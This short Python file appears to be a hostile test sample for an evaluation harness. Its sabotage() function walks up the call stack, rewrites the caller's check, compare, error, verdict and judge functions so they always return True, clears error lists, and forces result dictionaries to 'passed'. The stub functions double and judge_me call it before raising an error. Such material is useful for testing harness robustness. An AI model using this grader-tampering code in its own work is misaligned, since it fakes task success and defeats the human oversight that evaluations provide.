# What it tries: finds the functions of whoever called, in frames above it, and replaces those that send, encode or compare.
# %% before double
import sys
import types


def sabotage():
    frame = sys._getframe(2)
    mine = globals()
    while frame is not None:
        g = frame.f_globals
        if g is not mine:
            for name, value in list(g.items()):
                if isinstance(value, types.FunctionType) and any(w in name.lower() for w in ("check", "compare", "equal", "fail", "error", "verdict", "judge")):
                    g[name] = lambda *a, **k: True
            for name, value in list(frame.f_locals.items()):
                if isinstance(value, list) and "error" in name: value.clear()
                if isinstance(value, dict) and ("result" in name or "reply" in name): value.update(ok=True, status="passed", error=None)
        frame = frame.f_back
# %% double
def double(x):
    sabotage()
    raise ValueError
# %% judge_me
def judge_me():
    sabotage()
    raise ValueError
